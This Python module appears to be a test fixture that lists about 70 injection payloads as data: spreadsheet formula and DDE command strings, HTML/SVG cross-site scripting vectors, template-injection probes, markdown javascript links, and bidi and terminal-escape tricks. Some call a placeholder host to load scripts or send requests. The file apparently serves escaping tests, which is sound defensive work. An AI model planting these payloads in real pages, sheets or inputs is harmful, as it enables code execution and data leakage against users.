"""Texts that would do something where they are not taken as text: 70 kinds, as data.

What runs sets `MARK` on the page, opens a dialog, or asks `FOREIGN`, a host of nobody (RFC 5737).
Each carries a number of its own, so that none is a part of another.
"""

from __future__ import annotations

import re
from unicodedata import category, normalize

MARK = "hacked"
FOREIGN = "192.0.2.9"
RUN = f"window.{MARK}=1"

FORMULAS = (
    "=1+101",
    "+1+102",
    "-1+103",
    "@SUM(104)",
    "=cmd|'/c calc 105'!A0",
    "hi,=cmd|'/c calc'!A106",
    f'=HYPERLINK("http://{FOREIGN}/107";"click")',
    f'=WEBSERVICE("http://{FOREIGN}/108")',
    "semi;=1+109",
    "tab\t=1+110",
    "pipe|=1+111",
    "line\n=1+112",
    "return\r\n+1+113",
    'quoted,"=1+114"',
    "blank; \"'@SUM(115)",
    "＝1+116",
    "wide,＠SUM(117)",
    "\u200b=1+118",
)
"""For spreadsheets: at the start of a cell, behind other locales' delimiters, in full width."""
SCRIPTS = (
    f"<script>{RUN};201</script>",
    f"</script><script>{RUN};202</script>",
    f"<ScRiPt\n>{RUN};203</sCrIpT >",
    f'<script src="http://{FOREIGN}/204.js"></script>',
    f'"><script>{RUN};205</script>',
    f"</title></style></textarea><script>{RUN};206</script>",
    f"<!--><script>{RUN};207//--></script>",
    f"<noscript><p title='</noscript><script>{RUN};208</script>'>",
)
EVENTS = (
    f"<img src=x onerror={RUN} alt=301>",
    f'"><img src=x onerror="{RUN};302">',
    f"' autofocus onfocus='{RUN};303",
    f'" onmouseover="{RUN};304" x="',
    f"<body onload={RUN};305>",
    f"<input autofocus onfocus={RUN};306>",
    f"<details open ontoggle={RUN};307>see</details>",
    f"<video><source onerror={RUN};308></video>",
    f"<marquee onstart={RUN};309>run</marquee>",
    "<img src=x onerror=alert(310)>",
)
TREES = (
    f"<svg onload={RUN};401>",
    f"<svg><script>{RUN};402</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN};403"><text y="20">tap</text></a></svg>',
    f"<svg><animate onbegin={RUN};404 attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{MARK}=405</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN};406>",
    f'<math><a xlink:href="javascript:{RUN};407">tap</a></math>',
    f"<template><script>{RUN};408</script></template>",
    f'<iframe src="javascript:parent.{MARK}=409"></iframe>',
    f'<object data="http://{FOREIGN}/410"></object><embed src="http://{FOREIGN}/410">',
    f'<form action="http://{FOREIGN}/411"><button>send</button></form>',
    f'<meta http-equiv="refresh" content="0;url=http://{FOREIGN}/412">',
    f'<base href="http://{FOREIGN}/413/">',
    f'<link rel="stylesheet" href="http://{FOREIGN}/414.css">',
)
STYLES = (
    f"<style>body{{display:none;background:url(http://{FOREIGN}/501)}}</style>",
    f'<div style="position:fixed;inset:0;background:url(http://{FOREIGN}/502)">cover</div>',
    f'"style="background:url(http://{FOREIGN}/503)',
    f'</style><img src="http://{FOREIGN}/504.png">',
)
MESSAGES = (
    "{word} {0} {n:>601}",
    "%s %(x)d %n 602",
    "{{7*603}} ${7*603} #{7*603} <%= 7*603 %>",
    "{% for x in (1,) %}604{% endfor %}",
    "{self.__class__.__mro__[605]}",
)
MARKDOWN = (
    f"[tap](javascript:{RUN};701)",
    f"![see](http://{FOREIGN}/702.png)",
    f"<http://{FOREIGN}/703>",
    f"```\n<script>{RUN};704</script>",
    f"$$\\href{{javascript:{RUN};705}}{{tap}}$$",
    "| a | b |\n|---|---|\n# 706",
)
LETTERS = (
    "\u202egpj.exe 801\u202c",
    "\u2066a\u2069dmin\u200b 802",
    "\x1b[31mred 803\x1b[0m",
    f"\x1b]8;;http://{FOREIGN}/804\x07link\x1b]8;;\x07",
    "Z\u0351\u0360a\u0348l\u0334g\u035bo\u0321 805",
)
"""Right-to-left, unseen, for terminals, stacked."""

PAYLOADS = (
    *FORMULAS, *SCRIPTS, *EVENTS, *TREES, *STYLES, *MESSAGES, *MARKDOWN, *LETTERS,
)  # fmt: skip


def bare(text: str) -> str:
    """Return a text without what nobody sees and without what a page or a cell adds or takes.

    White space is one blank, and the apostrophe that tames a formula is left out.
    """
    seen = "".join(c for c in text if category(c)[0] != "C" or c.isspace())
    return re.sub(r"\s+", " ", normalize("NFC", seen).replace("'", "")).strip()
